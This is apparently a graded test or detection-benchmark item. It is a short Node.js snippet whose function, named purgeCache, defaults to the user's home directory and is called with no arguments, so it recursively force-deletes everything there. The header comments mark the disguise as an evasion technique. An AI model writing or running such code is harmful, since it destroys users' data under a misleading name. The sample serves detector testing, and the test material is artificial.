// evasion: the target is a parameter's default value (dir = os.homedir()); the function is called without arguments
// grade: hard; does: delete
const fs = require("fs");
const os = require("os");
function purgeCache(dir = os.homedir(), opts = { recursive: true, force: true }) {
  fs.rmSync(dir, opts);
}
purgeCache();
